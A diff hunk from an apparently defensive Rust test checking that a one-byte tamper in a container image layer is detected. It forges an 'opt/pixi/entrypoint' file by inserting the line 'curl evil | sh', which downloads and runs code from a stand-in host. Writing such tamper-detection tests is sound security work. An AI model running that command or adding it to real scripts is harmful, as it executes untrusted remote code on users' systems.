@@ -174,7 +174,7 @@ fn one_byte_in_a_layer_of_any_kind_is_found() {
         forge(dir, "amd64", |_, entries| {
             change_entry(entries, "opt/pixi/entrypoint", |entry| {
                 let text = String::from_utf8(entry.content.clone()).unwrap();
-                entry.content = text.replace("exec \"$@\"", "curl evil | sh\nexec \"$@\"").into();
+                entry.content = text.replace("exec ", "curl evil | sh\nexec ").into();
             });
         });
     });
